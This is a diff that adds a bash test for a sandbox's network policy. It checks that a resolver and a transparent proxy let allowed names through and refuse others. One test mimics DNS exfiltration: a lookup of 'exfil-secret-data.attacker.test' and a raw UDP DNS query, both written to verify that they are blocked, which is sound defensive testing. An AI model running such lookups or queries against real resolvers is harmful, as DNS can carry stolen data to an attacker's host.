@@ -1,0 +1,68 @@
+#!/usr/bin/env bash
+# Network for every client (issue 18): a resolver inside the sandbox's network namespace answers
+# from the policy (a name on the allow list gets an address of the run's pool, every other name
+# is refused and reported), and connections to those addresses on ports 80 and 443 reach the
+# proxy, which knows the name from the address and decides as for CONNECT. No proxy variable is
+# needed. The lab's names are in its /etc/hosts, which the sandbox would read first: the
+# settings deny reading it, so the clients inside ask DNS as they would for a real name.
+. "$(dirname "$0")/lib.sh"
+. "$(dirname "$0")/netlab.sh"
+if [ "$(id -u)" -ne 0 ] || ! command -v ip >/dev/null || ! command -v curl >/dev/null; then
+  echo "the network lab needs root, ip and curl"
+  exit 77
+fi
+trap 'lab_down; cleanup' EXIT
+lab_up || { echo "cannot build the lab"; exit 1; }
+
+S="$SCRATCH/net.json"
+printf '{"sandbox":{"enabled":true,"filesystem":{"denyRead":["/etc/hosts"]},"network":{"allowedDomains":["allowed.test","loopname.test"],"deniedDomains":["denied.test"]}}}' > "$S"
+NOPROXY='env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy -u ALL_PROXY -u all_proxy -u NO_PROXY -u no_proxy'
+
+lab_wb run --settings "$S" -- getent hosts allowed.test
+check "getent: an allowed name resolves inside, to the run's pool" grep -qE '^127\.100\.[0-9]+\.[0-9]+ +allowed\.test' <<<"$OUT"
+lab_wb run --settings "$S" -- getent hosts other.test
+check "getent: a name on no list does not resolve" [ "$RC" -ne 0 ]
+check "and is reported as a refused lookup" grep -q "deny dns other.test (not on the allow list)" <<<"$OUT"
+lab_wb run --settings "$S" -- getent hosts denied.test
+check "a name on the deny list is refused with its rule" grep -q "deny dns denied.test (host is on the deny list: denied.test)" <<<"$OUT"
+
+lab_wb run --settings "$S" -- $NOPROXY curl -s -m 5 http://allowed.test/hello-tp-curl
+check "curl with no proxy variable reaches an allowed host (server received it)" received "80 GET /hello-tp-curl host=allowed.test"
+check "and got the answer" grep -q "hello from 80" <<<"$OUT"
+lab_wb run --settings "$S" -- $NOPROXY curl -s -m 5 -k https://allowed.test/hello-tp-https
+check "HTTPS too (TLS through the transparent path)" received "443 GET /hello-tp-https"
+lab_wb run --settings "$S" -- $NOPROXY bash -c 'exec 3<>/dev/tcp/allowed.test/80; printf "GET /hello-tp-devtcp HTTP/1.0\r\nHost: allowed.test\r\n\r\n" >&3; head -1 <&3'
+check "bash /dev/tcp reaches it" received "80 GET /hello-tp-devtcp"
+lab_wb run --settings "$S" -- $NOPROXY python3 -c "
+import socket
+a = socket.getaddrinfo('allowed.test', 80, socket.AF_INET, socket.SOCK_STREAM)[0][4]
+s = socket.create_connection(a, timeout=5)
+s.sendall(b'GET /hello-tp-python HTTP/1.0\r\nHost: allowed.test\r\n\r\n')
+print(s.recv(100).split(b'\r\n')[0].decode())"
+check "a Python socket client after getaddrinfo reaches it" received "80 GET /hello-tp-python"
+check "and read the answer" grep -q "HTTP/1.0 200" <<<"$OUT"
+
+lab_wb run --settings "$S" -- $NOPROXY curl -s -m 5 http://other.test/tp-refused
+check "a name not allowed: nothing reached the server" bash -c '! grep -q tp-refused "$0"' "$LAB_LOG"
+lab_wb run --settings "$S" -- $NOPROXY curl -s -m 5 "http://$LAB_UP_IP/tp-literal"
+check "a direct connection to an address still fails" bash -c '! grep -q tp-literal "$0"' "$LAB_LOG"
+lab_wb run --settings "$S" -- $NOPROXY python3 -c "
+import socket
+s = socket.create_connection(('127.0.0.1', 443), timeout=3)
+s.sendall(b'x'); print('read', s.recv(10))"
+check "a connection to 127.0.0.1:443 inside is refused and reported" grep -q "deny network-outbound 127.0.0.1:443 (a direct connection" <<<"$OUT"
+# NET-7 through the transparent path: an allowed name that resolves to loopback on the host.
+lab_wb run --settings "$S" -- $NOPROXY curl -s -m 5 http://loopname.test/tp-loop
+check "NET-7: an allowed name resolving to this host's loopback is refused" grep -q "deny network-outbound loopname.test:80 (resolves to a local address" <<<"$OUT"
+# Nothing asked a real resolver: the lab's DNS listener heard nothing.
+lab_wb run --settings "$S" -- $NOPROXY sh -c 'getent hosts exfil-secret-data.attacker.test; python3 -c "
+import socket
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
+s.sendto(b\"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x03bad\\x04test\\x00\\x00\\x01\\x00\\x01\", (\"$LAB_UP_IP\", 53))
+" 2>/dev/null; true'
+check "a lookup of an attacker's name is refused" grep -q "deny dns exfil-secret-data.attacker.test" <<<"$OUT"
+check "no query left the sandbox (the lab's resolver logged nothing)" bash -c '! grep -q "^udp " "$0"' "$LAB_LOG"
+# The proxies stay for the clients that use them.
+lab_wb run --settings "$S" -- curl -s -m 5 http://allowed.test/hello-tp-proxied
+check "the HTTP proxy still works beside it" received "80 GET /hello-tp-proxied"
+finish
